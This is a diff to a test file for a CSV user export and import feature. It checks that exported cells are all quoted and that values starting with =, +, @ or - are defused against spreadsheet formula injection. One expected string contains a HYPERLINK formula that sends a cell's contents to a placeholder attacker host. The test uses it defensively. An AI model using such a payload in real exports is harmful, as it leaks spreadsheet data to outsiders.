@@ -342,7 +342,8 @@ describe('R19 users export and R22 token import jobs', () => {
     expect(header).toBe('userId,firstName,lastName,email,phone,backupPhones,officePhone,mfaEnabled,licensed,defaultMethod');
     expect(rows).toHaveLength(12);
     // A phone number starts with +: a spreadsheet would read it as a formula, so it is defused.
-    expect(rows).toContain(`bulk-5003,Bulk 5003,,,"'+14155556003",,,true,false,`);
+    // Every cell is quoted, so a locale separating by ; splits nothing.
+    expect(rows).toContain(`"bulk-5003","Bulk 5003","","","'+14155556003","","","true","false",""`);
     const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
     expect(back.counts).toMatchObject({ rows: 12, unchanged: 12, created: 0, updated: 0, failed: 0 });
     // Another tenant's export holds none of these users.
@@ -365,7 +366,7 @@ describe('R19 users export and R22 token import jobs', () => {
     const cells = (parse(csv, { from_line: 2 }) as string[][]).flat();
     expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
     expect(csv).toContain(`"'@evil","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+1"`);
-    expect(csv).toContain(`"''=already quoted",O'Neill`);
+    expect(csv).toContain(`"''=already quoted","O'Neill"`);
     const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
     expect(back.counts).toMatchObject({ rows: 3, unchanged: 3, created: 0, updated: 0, failed: 0 });
     for (const [userId, body] of Object.entries(names)) {
